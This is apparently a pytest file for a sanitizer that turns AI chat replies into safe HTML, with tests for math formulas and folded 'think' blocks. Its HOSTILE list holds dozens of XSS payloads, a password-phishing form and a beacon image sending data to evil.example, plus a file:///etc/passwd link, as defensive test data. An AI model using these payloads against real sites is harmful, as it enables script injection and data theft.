"""What a reply shows is data: nothing a model writes may run, load, submit, cover the page or borrow its classes."""

from html.parser import HTMLParser

import pytest

from ui.reply_html import GrowingReply, reply_html

TAGS_LIST = (
    "p br strong em s code pre ul ol li blockquote h1 h2 h3 h4 h5 h6 hr a div span button table thead tbody tr th td "
    "details summary i math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle msub msup msubsup munder mover "
    "munderover mtable mtr mtd mpadded mphantom mfenced menclose mmultiscripts mprescripts none"
)
TAGS = set(TAGS_LIST.split())
ATTRIBUTES_LIST = (
    "href rel target class type tabindex data-copy-code align start display mathvariant stretchy fence "
    "form separator accent linethickness columnalign displaystyle scriptlevel width height depth "
    "lspace rspace minsize maxsize movablelimits symmetric largeop notation rowspacing columnspacing "
    "rowalign columnlines rowlines accentunder"
)
ATTRIBUTES = set(ATTRIBUTES_LIST.split())
CLASSES = {"code", "code-bar", "table", "formula", "formula-source", "think", "thinking"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<div style='position:fixed;inset:0;z-index:9999'>covered</div>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "![beacon](https://evil.example/pixel.png?secret=1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://evil.example/1)",
    '[x](https://ok.example/" onmouseover="alert(1))',
    '[x](https://ok.example "title\\" onclick=alert(1)")',
    "<javascript:alert(1)> <https://ok.example/'onclick=alert(1)>",
    "```html\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
    "```python\nx = '</code></pre><script>alert(1)</script>'\n```",
    "``<img src=x onerror=alert(1)>``",
    "| <script>alert(1)</script> | b |\n|:--:|---|\n| <img src=x onerror=alert(1)> | y |",
    "$\\text{<script>alert(1)</script>}$ and $$\\text{<img src=x onerror=alert(1)>}$$",
    "$\\href{javascript:alert(1)}{x}$ \\(\\class{kv-dialog}{x}\\) $\\style{position:fixed}{x}$",
    "$$\\color{red;background:url(https://evil.example)}{x}$$ $\\mathbf{\\unicode{60}}$",
    "<think><img src=x onerror=alert(1)></think><script>alert(1)</script>",
    "<think>\n</div></details><script>alert(1)</script>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${alert(1)}`",
    "[ref]: javascript:alert(1)\n[ref] [ref][ref]",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "# <script>alert(1)</script>\n> <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>",
    "\0<scr\0ipt>alert(1)</script>",
]  # fmt: skip


class Audit(HTMLParser):
    """Collects everything in a document that is not on the short list of what replies consist of."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{tag} {name}={value!r}")
            if name == "class" and not all(item in CLASSES or item.startswith("hl-") for item in value.split()):
                self.wrong.append(f"class {value!r}")
            if name == "href" and not value.lower().startswith(("https://", "http://", "mailto:")):
                self.wrong.append(f"href {value!r}")
        if tag == "a":
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow" and dict(attrs)["target"] == "_blank"
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")


def audit(html: str) -> list[str]:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser.wrong + [f"unclosed {tag}" for tag in parser.open]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_replies_stay_data(source):
    """Also at every length while it streams, where marks are not closed yet."""
    assert audit(reply_html(source)) == []
    growing = GrowingReply()
    for end in range(1, len(source) + 1):
        assert audit("".join(growing.update(source[:end]))) == []


def test_text_of_markup_is_shown_as_it_was_written():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in reply_html("<script>alert(1)</script>")
    assert "beacon (image)" in reply_html("![beacon](https://evil.example/p.png)")


@pytest.mark.parametrize(
    ("source", "wanted"),
    [
        ("$a^2$", "<msup>"),
        ("\\(x<y\\)", "<mo>&lt;</mo>"),
        ("\\[\\frac{1}{2}\\]", "<mfrac>"),
        ("so $$x+1$$ it is", 'class="formula"'),
        ("$$\n\\sum_{i=0}^n i\n$$", "<munderover>"),
        ("costs $5 and $6 more", "<p>costs $5 and $6 more</p>"),
        ("`$x$`", "<code>$x$</code>"),
        ("$\\frac{$", "$\\frac{$"),
        ("$\\nonsense{x}$", '<code class="formula-source">$\\nonsense{x}$</code>'),
        ("$" + "{" * 60 + "x" + "}" * 60 + "$", "formula-source"),
        ("\\$x\\$", "<p>$x$</p>"),
    ],
)
def test_formulas(source, wanted):
    assert wanted in reply_html(source)


@pytest.mark.parametrize(
    ("source", "folded", "shown"),
    [
        ("<think>\nhm\n</think>\n\nYes", "<p>hm</p>", "<p>Yes</p>"),
        ("<think>hm</think>Yes", "<p>hm</p>", "<p>Yes</p>"),
        ("hm\n</think>\n\nYes", "<p>hm</p>", "<p>Yes</p>"),
        ("<think>a</think><think>b</think>Yes", "<p>b</p>", "<p>Yes</p>"),
        ("<think>still going", "<p>still going</p>", ""),
    ],
)
def test_thoughts_are_folded(source, folded, shown):
    before, _, after = reply_html(source).rpartition("</details>")
    assert folded in before and "<details" in before
    assert after.strip() == shown


def test_a_think_mark_inside_the_answer_is_text():
    html = reply_html("Write `<think>` like this:\n\n```\n<think>x</think>\n```")
    assert "<details" not in html and "&lt;think&gt;x&lt;/think&gt;" in html


def test_an_open_thought_says_so_until_it_is_closed():
    growing = GrowingReply()
    assert 'class="thinking"' in growing.update("<think>hm")[0]
    assert 'class="thinking"' not in growing.update("<think>hm</think>")[0]
